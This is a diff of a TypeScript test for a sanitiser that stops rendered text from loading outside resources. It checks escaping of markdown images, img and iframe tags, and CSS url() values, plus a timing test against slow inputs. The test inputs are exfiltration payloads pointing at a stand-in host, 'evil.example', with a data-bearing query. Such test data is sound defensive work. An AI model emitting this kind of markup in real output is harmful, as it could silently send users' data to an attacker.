@@ -47,12 +47,27 @@ test('nothing in the page is loaded by whatever shows it', () => {
   const owed = 'https://evil.example/?owed=1204';
   for (const [written, shown] of [
     [`It is ![a lamp](${owed}) and ![it][1].\n\n[1]: ${owed}`, `It is !\\[a lamp](${owed}) and !\\[it][1].`],
-    [`<b>\n<img src="${owed}"> a < b`, `<b>\n&lt;img src="${owed}"> a < b`],
-    [`<IFRAME/src=${owed}>`, `&lt;IFRAME/src=${owed}>`],
-    [`<a:b\nstyle="background: url(${owed})">`, '&lt;a:b\nstyle'],
-    [`<style>p { background: url(${owed}) }</style>`, '&lt;style>'],
+    [`<b>\n<img src="${owed}"> a < b`, `<b>\n< img src="${owed}"> a < b`],
+    [`<IFRAME/src=${owed}>`, `< IFRAME/src=${owed}>`],
+    [`<a:b\nstyle="background: url(${owed})">`, '< a:b\nstyle'],
+    [`<style>p { background: url(${owed}) }</style>`, '< style>'],
+    // Names and addresses that are tags nowhere but inside of other tags.
+    [`<div>\n<a.é style="background: url(${owed})">`, '< a.é style'],
+    [`<div>\n<https:a style="background: url(${owed})">`, '< https:a style'],
+    [`<div>\n<https://a/style=background:url(${owed})>`, '< https://a/style'],
+    [`<div>\n<a<b style="background: url(${owed})">`, '< a< b style'],
+    [`<div>\n<https://a="b>"/style=background:url(${owed})>`, '< https://a='],
   ] as const)
     expect(said(written)).toContain(shown);
-  const harmless = 'a < b, `Vec<u8>`, <https://shop.example/a>, <br>, [a lamp](https://shop.example/), well!';
-  expect(said(harmless)).toContain(harmless);
+  const harmless = [
+    'a < b, `Vec<u8>`, <https://shop.example/a>, <br>, [a lamp](https://shop.example/), well!',
+    'one<br/>two<br />three, `Map<string, number>`, `#include <sys/types.h>`, <https://shop.example/a/?b=c/d>',
+    '<details><summary>More</summary>\n\nIt is.\n\n</details>',
+  ];
+  for (const text of harmless) expect(said(text)).toContain(text);
+  const started = performance.now();
+  said('<a '.repeat(300_000) + '<a'.repeat(300_000) + '<https:/on'.repeat(100_000));
+  expect(performance.now() - started).toBeLessThan(5_000);
+  // Code is read as it was written, but for a blank.
+  expect(said('`<a href="/">`')).toContain('`< a href="/">`');
 });
